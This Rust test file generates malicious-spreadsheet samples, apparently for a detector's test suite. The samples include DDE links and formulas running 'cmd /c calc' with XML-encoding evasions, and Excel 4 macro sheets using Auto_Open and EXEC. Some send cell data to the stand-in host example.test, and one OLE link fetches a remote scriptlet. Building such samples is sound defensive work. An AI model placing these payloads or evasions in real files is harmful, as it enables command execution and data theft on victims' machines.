//! X5, X6, X13, X15 and X16 in packages.

use super::{Expect, Sample, sample};
use crate::make::opc::Opc;

const CALC: Expect = Expect::Dde("cmd", "/c calc");
const MAIN: &str = "http://schemas.openxmlformats.org/spreadsheetml/2006/main";
const STRICT: &str = "http://purl.oclc.org/ooxml/spreadsheetml/main";
const R: &str = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
const TYPE: &str = "application/vnd.openxmlformats-officedocument.spreadsheetml.";
const LINK: &str = "<ddeLink ddeService=\"cmd\" ddeTopic=\"/c calc\"><ddeItems>\
<ddeItem name=\"_xlbgnm.A0\" advise=\"1\"><values><value t=\"str\"><val>please wait</val></value></values></ddeItem>\
<ddeItem name=\"StdDocumentName\" ole=\"1\" advise=\"1\"/></ddeItems></ddeLink>";

fn sheet(cells: &str, behind: &str) -> String {
    let rows = format!("<sheetData><row r=\"1\">{cells}</row></sheetData>");
    format!("<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<worksheet xmlns=\"{MAIN}\">{rows}{behind}</worksheet>")
}

fn cell(formula: &str) -> String {
    sheet(&format!("<c r=\"A1\"><f>{formula}</f><v>0</v></c>"), "")
}

fn workbook(namespace: &str, inside: &str) -> String {
    format!(
        "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<workbook xmlns=\"{namespace}\" xmlns:r=\"{R}\"><sheets>\
        <sheet name=\"Sheet1\" sheetId=\"1\" r:id=\"rId1\"/></sheets>{inside}</workbook>"
    )
}

/// A workbook with one sheet; the main part and the sheet have their usual names.
fn base(inside: &str, sheet: impl Into<Vec<u8>>) -> Opc {
    Opc::new()
        .part("xl/workbook.xml", &format!("{TYPE}sheet.main+xml"), workbook(MAIN, inside))
        .part("xl/worksheets/sheet1.xml", &format!("{TYPE}worksheet+xml"), sheet)
        .relate("", "officeDocument", "xl/workbook.xml")
        .relate("xl/workbook.xml", "worksheet", "worksheets/sheet1.xml")
}

const REFERENCE: &str = "<externalReferences><externalReference r:id=\"rId2\"/></externalReferences>";

fn external(namespace: &str, body: &str) -> String {
    format!(
        "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<externalLink xmlns=\"{namespace}\" xmlns:r=\"{R}\">{body}</externalLink>"
    )
}

fn linked(name: &str, link: impl Into<Vec<u8>>) -> Opc {
    base(REFERENCE, cell("[1]!_xlbgnm.A0"))
        .part(&format!("xl/{name}"), &format!("{TYPE}externalLink+xml"), link)
        .relate("xl/workbook.xml", "externalLink", name)
}

/// A workbook whose external link part has these bytes.
pub(super) fn with_link(bytes: &[u8]) -> Vec<u8> {
    linked("externalLinks/externalLink1.xml", bytes).build()
}

/// A workbook whose sheet has these bytes.
pub(super) fn with_sheet(bytes: &[u8]) -> Vec<u8> {
    base("", bytes).build()
}

pub(super) fn samples() -> Vec<Sample> {
    [links(), formulas(), hidden(), related(), silent()].concat()
}

fn links() -> Vec<Sample> {
    let usual = "externalLinks/externalLink1.xml";
    let plain = linked(usual, external(MAIN, LINK));
    let strict = Opc::new()
        .strict()
        .part("xl/workbook.xml", &format!("{TYPE}sheet.main+xml"), workbook(STRICT, REFERENCE))
        .part("xl/worksheets/sheet1.xml", &format!("{TYPE}worksheet+xml"), cell("[1]!A0").replace(MAIN, STRICT))
        .part("xl/externalLinks/externalLink1.xml", &format!("{TYPE}externalLink+xml"), external(STRICT, LINK))
        .relate("", "officeDocument", "xl/workbook.xml")
        .relate("xl/workbook.xml", "worksheet", "worksheets/sheet1.xml")
        .relate("xl/workbook.xml", "externalLink", "externalLinks/externalLink1.xml");
    let word = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml";
    let spelled = LINK.replace("cmd", "&#99;md");
    let utf16: Vec<u8> =
        "\u{feff}".encode_utf16().chain(external(MAIN, LINK).encode_utf16()).flat_map(u16::to_le_bytes).collect();
    let entity = external(MAIN, &LINK.replace("cmd", "&c;"))
        .replace("?>\n", "?>\n<!DOCTYPE externalLink [<!ENTITY c \"cmd\">]>");
    vec![
        sample("X5", "x5-dde-link.xlsx", plain.build(), CALC),
        sample("strict-namespace", "x5-strict.xlsx", strict.build(), CALC),
        sample("renamed-part", "x5-renamed.xlsx", linked("media/picture.xml", external(MAIN, LINK)).build(), CALC),
        sample(
            "content-type-conflict",
            "x5-type-conflict.xlsx",
            linked(usual, external(MAIN, LINK))
                .default_type("docx", word)
                .override_type("xl/workbook.xml", word)
                .build(),
            CALC,
        ),
        sample("xml-encoding", "x5-references.xlsx", linked(usual, external(MAIN, &spelled)).build(), CALC),
        sample("xml-encoding", "x5-utf16.xlsx", linked(usual, utf16).build(), CALC),
        sample("xml-entity", "x5-entity.xlsx", linked(usual, entity).build(), CALC),
    ]
}

fn formulas() -> Vec<Sample> {
    let dde = "cmd|'/c calc'!A0";
    let part = |behind: &str| base("", sheet("", behind)).build();
    let table = format!(
        "<table xmlns=\"{MAIN}\" id=\"1\" name=\"T\" ref=\"A1:A2\"><tableColumns count=\"1\"><tableColumn id=\"1\" name=\"c\">\
        <calculatedColumnFormula>{dde}</calculatedColumnFormula></tableColumn></tableColumns></table>"
    );
    let chart = format!(
        "<c:chartSpace xmlns:c=\"http://schemas.openxmlformats.org/drawingml/2006/chart\"><c:chart><c:plotArea><c:barChart>\
        <c:ser><c:val><c:numRef><c:f>{dde}</c:f></c:numRef></c:val></c:ser></c:barChart></c:plotArea></c:chart></c:chartSpace>"
    );
    let defined = format!("<definedNames><definedName name=\"x\">{dde}</definedName></definedNames>");
    let empty = || sheet("", "");
    vec![
        sample("X6", "x6-cell.xlsx", base("", cell(dde)).build(), CALC),
        sample("X6", "x6-cell-references.xlsx", base("", cell("cmd|&apos;/c calc&apos;!A0")).build(), CALC),
        sample("X6", "x6-defined-name.xlsx", base(&defined, empty()).build(), CALC),
        sample(
            "X6",
            "x6-validation.xlsx",
            part(&format!(
                "<dataValidations><dataValidation sqref=\"A1\"><formula1>{dde}</formula1></dataValidation></dataValidations>"
            )),
            CALC,
        ),
        sample(
            "X6",
            "x6-conditional.xlsx",
            part(&format!(
                "<conditionalFormatting sqref=\"A1\"><cfRule type=\"expression\"><formula>{dde}</formula></cfRule></conditionalFormatting>"
            )),
            CALC,
        ),
        sample(
            "X6",
            "x6-table.xlsx",
            base("", empty())
                .part("xl/tables/table1.xml", &format!("{TYPE}table+xml"), table)
                .relate("xl/worksheets/sheet1.xml", "table", "../tables/table1.xml")
                .build(),
            CALC,
        ),
        sample(
            "X6",
            "x6-chart.xlsx",
            base("", empty())
                .part(
                    "xl/charts/chart1.xml",
                    "application/vnd.openxmlformats-officedocument.drawingml.chart+xml",
                    chart,
                )
                .relate("xl/worksheets/sheet1.xml", "chart", "../charts/chart1.xml")
                .build(),
            CALC,
        ),
    ]
}

fn hidden() -> Vec<Sample> {
    vec![
        sample("xml-encoding", "x6-bar-reference.xlsx", base("", cell("cmd&#124;'/c calc'!A0")).build(), CALC),
        sample("xml-encoding", "x6-bar-hexadecimal.xlsx", base("", cell("&#x63;md&#x7C;'/c calc'!A0")).build(), CALC),
        sample("xml-encoding", "x6-cdata.xlsx", base("", cell("cm<![CDATA[d|'/c ca]]>lc'!A0")).build(), CALC),
        sample("xml-encoding", "x6-comment.xlsx", base("", cell("cm<!-- -->d|'/c calc'!A0")).build(), CALC),
    ]
}

fn related() -> Vec<Sample> {
    let macro_sheet = |formulas: &str| {
        let body = format!(
            "<xm:macrosheet xmlns=\"{MAIN}\" xmlns:xm=\"http://schemas.microsoft.com/office/excel/2006/main\"><sheetData>\
            <row r=\"1\">{formulas}</row></sheetData></xm:macrosheet>"
        );
        let kind = "http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet";
        let names = "<definedNames><definedName name=\"_xlnm.Auto_Open\">Macro1!$A$1</definedName></definedNames>";
        base(names, sheet("", ""))
            .part("xl/macrosheets/sheet1.xml", "application/vnd.ms-excel.macrosheet+xml", body)
            .relate("xl/workbook.xml", kind, "macrosheets/sheet1.xml")
            .build()
    };
    let speak = "<c r=\"A1\"><f>INITIATE(\"cmd\",\"/c calc\")</f></c><c r=\"A2\"><f>EXECUTE(A1,\"[calc]\")</f></c>";
    let start = "<c r=\"A1\" t=\"str\"><v>calc</v></c><c r=\"A2\"><f>EXEC(A1&amp;CHAR(46)&amp;\"exe\")</f></c>";
    let ole = format!(
        "<oleLink xmlns:r=\"{R}\" r:id=\"rId1\" progId=\"Package\"><oleItems><oleItem name=\"'\" advise=\"1\"/></oleItems></oleLink>"
    );
    let script = linked("externalLinks/externalLink1.xml", external(MAIN, &ole)).relate_external(
        "xl/externalLinks/externalLink1.xml",
        "oleObject",
        "script:http://example.test/a.sct",
    );
    let fetch = "WEBSERVICE(\"http://example.test/?d=\"&amp;B1)";
    let click = "HYPERLINK(\"http://example.test/?d=\"&amp;B1,\"more\")";
    vec![
        sample("X13", "x13-initiate.xlsm", macro_sheet(speak), Expect::Related("macro-dde")),
        sample("X13", "x13-exec.xlsm", macro_sheet(start), Expect::Related("macro-exec")),
        sample("X15", "x15-webservice.xlsx", base("", cell(fetch)).build(), Expect::Related("exfiltration")),
        sample("X15", "x15-hyperlink.xlsx", base("", cell(click)).build(), Expect::Related("exfiltration")),
        sample("X16", "x16-package-script.xlsx", script.build(), Expect::Related("ole-link")),
    ]
}

fn silent() -> Vec<Sample> {
    let text = "<c r=\"A1\" t=\"inlineStr\"><is><t>cmd|'/c calc'!A0 and DDE(1)</t></is></c>";
    let plain = "<c r=\"A1\"><f>HYPERLINK(\"http://example.test/\",\"site\")</f></c><c r=\"A2\"><f>SUM(B1:B9)-5</f></c>\
        <c r=\"A3\"><f>RTD(\"prices.server\",\"\",\"GOLD\")</f></c><c r=\"A4\"><f>IF(B1=\"a|b\",1,2)</f></c>";
    let name = "<definedNames><definedName name=\"rate\">Sheet1!$B$1</definedName></definedNames>";
    let book = "<externalBook r:id=\"rId1\"><sheetNames><sheetName val=\"Sheet1\"/></sheetNames></externalBook>";
    let other = linked("externalLinks/externalLink1.xml", external(MAIN, book)).relate_external(
        "xl/externalLinks/externalLink1.xml",
        "externalLinkPath",
        "prices.xlsx",
    );
    vec![
        sample("X5", "x5-near-other-workbook.xlsx", other.build(), Expect::Silent),
        sample("X6", "x6-near-text.xlsx", base("", sheet(text, "")).build(), Expect::Silent),
        sample("X6", "x6-near-formulas.xlsx", base(name, sheet(plain, "")).build(), Expect::Silent),
    ]
}
